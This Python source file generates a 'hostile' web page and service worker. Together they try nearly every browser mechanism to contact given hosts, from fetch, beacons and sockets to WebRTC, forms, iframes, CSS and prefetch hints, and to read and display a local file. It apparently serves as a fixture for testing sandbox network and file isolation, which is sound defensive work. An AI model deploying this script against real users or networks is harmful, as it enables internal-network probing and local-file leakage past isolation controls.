"""A page that tries every way that a browser has to reach another host."""

import json
from collections.abc import Sequence

_SCRIPT = """
const hosts = %s, spellings = %s, port = %d, file = %s;
const tried = [];
const attempt = (name, action) => {
  try { const r = action(); tried.push(Promise.resolve(r).catch(() => 0)); } catch (e) {}
};
const add = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes);
  (tag === "link" ? document.head : document.body).append(element);
};
const attack = () => {
for (const host of spellings) attempt("fetch", () => fetch(
  `http://${host}:${port}/fetch`, {mode: "no-cors"}));
for (const host of hosts) for (const scheme of ["http", "https"]) {
  const url = (path) => `${scheme}://${host}:${port}/${path}`;
  attempt("fetch", () => fetch(url("fetch"), {mode: "no-cors"}));
  attempt("post", () => fetch(url("post"), {method: "POST", body: "x", mode: "no-cors"}));
  attempt("keepalive", () => fetch(url("keep"), {keepalive: true, mode: "no-cors"}));
  attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", url("xhr")); x.send(); });
  attempt("beacon", () => navigator.sendBeacon(url("beacon"), "x"));
  attempt("events", () => new EventSource(url("events")));
  attempt("socket", () => new WebSocket(url("ws").replace("http", "ws")));
  attempt("img", () => add("img", {src: url("img")}));
  attempt("iframe", () => add("iframe", {src: url("iframe")}));
  attempt("redirected", () => add("iframe", {src: "/redirect?" + encodeURIComponent(url("r"))}));
  attempt("fetched", () => fetch("/redirect?" + encodeURIComponent(url("f")), {mode: "no-cors"}));
  attempt("script", () => add("script", {src: url("script")}));
  attempt("object", () => add("object", {data: url("object")}));
  attempt("embed", () => add("embed", {src: url("embed")}));
  attempt("video", () => add("video", {src: url("video"), preload: "auto", autoplay: true}));
  attempt("svg", () => document.body.insertAdjacentHTML("beforeend",
    `<svg><image href="${url("svg")}"/></svg>`));
  for (const rel of ["stylesheet", "preload", "prefetch", "preconnect", "dns-prefetch",
                     "modulepreload", "icon", "manifest"])
    attempt(rel, () => add("link", {rel, href: url(rel), as: rel === "preload" ? "image" : ""}));
  attempt("css", () => add("style", {textContent:
    `body { background: url(${url("css")}) } @import url(${url("import")});
     @font-face { font-family: x; src: url(${url("font")}) } p { font-family: x }`}));
  attempt("speculation", () => { const s = document.createElement("script");
    s.type = "speculationrules"; s.textContent = JSON.stringify({
      prefetch: [{source: "list", urls: [url("spec")]}],
      prerender: [{source: "list", urls: [url("prerender")]}]}); document.head.append(s); });
  attempt("worker", () => new Worker(URL.createObjectURL(new Blob(
    [`fetch("${url("worker")}", {mode: "no-cors"}); importScripts("${url("lib")}")`]))));
  attempt("form", () => { add("iframe", {name: "target"}); const form = document.createElement(
    "form"); Object.assign(form, {action: url("form"), method: "POST", target: "target"});
    document.body.append(form); form.submit(); });
  attempt("popup", () => window.open(url("popup")));
  attempt("refresh", () => add("iframe", {srcdoc:
    `<meta http-equiv="refresh" content="0;url=${url("refresh")}">`}));
  attempt("transport", () => new WebTransport(url("transport").replace("http:", "https:")).ready);
  attempt("rtc", async () => {
    const rtc = new RTCPeerConnection({iceServers: [
      {urls: `stun:${host}:${port}`},
      {urls: `turn:${host}:${port}?transport=udp`, username: "u", credential: "c"},
      {urls: `turn:${host}:${port}?transport=tcp`, username: "u", credential: "c"},
      {urls: `turns:${host}:${port}?transport=tcp`, username: "u", credential: "c"}]});
    rtc.createDataChannel("x");
    await rtc.setLocalDescription(await rtc.createOffer());
    for (const [kind, tcp] of [["udp", ""], ["tcp", " tcptype passive"]])
      await rtc.addIceCandidate({sdpMid: "0", candidate:
        `candidate:1 1 ${kind} 2122260223 ${host.replace(/[\\[\\]]/g, "")} ${port} typ host${tcp}`})
        .catch(() => 0);
  });
}
};
const shown = (text) => add("pre", {textContent: text});
attempt("file", () => fetch(file).then(r => r.text()).then(shown));
attempt("file frame", () => add("iframe", {src: file, onload: event =>
  shown(event.target.contentDocument.body.innerText)}));
attempt("file xhr", () => { const x = new XMLHttpRequest(); x.onload = () => shown(x.responseText);
  x.open("GET", file); x.send(); });
const patience = new Promise(resolve => setTimeout(resolve, 15000));
const serviceWorker = navigator.serviceWorker.register("/worker.js")
  .then(() => navigator.serviceWorker.ready);
const done = () => add("div", {id: "done", textContent: tried.length + " attempts"});
serviceWorker.catch(() => 0).then(attack)
  .then(() => Promise.race([Promise.all(tried), patience])).then(() => setTimeout(done, 1000));
"""
_SERVICE_WORKER = """
const hosts = %s, port = %d;
const go = () => Promise.all(hosts.map(host =>
  fetch(`http://${host}:${port}/worker`, {mode: "no-cors"}).catch(() => 0)));
self.addEventListener("install", event => event.waitUntil(go()));
self.addEventListener("activate", event => event.waitUntil(clients.claim().then(go)));
"""


def hostile_page(hosts: Sequence[str], spellings: Sequence[str], port: int, file: str) -> str:
    """Returns the page; it adds `#done` when its attempts have ended.

    It tries everything on `hosts`, and one request on each of the `spellings`.
    """
    script = _SCRIPT % (json.dumps(hosts), json.dumps(spellings), port, json.dumps(file))
    return f"<html><head></head><body><p>harmless words</p><script>{script}</script></body></html>"


def service_worker(hosts: Sequence[str], port: int) -> str:
    """Returns the script of the page's service worker."""
    return _SERVICE_WORKER % (json.dumps(hosts), port)
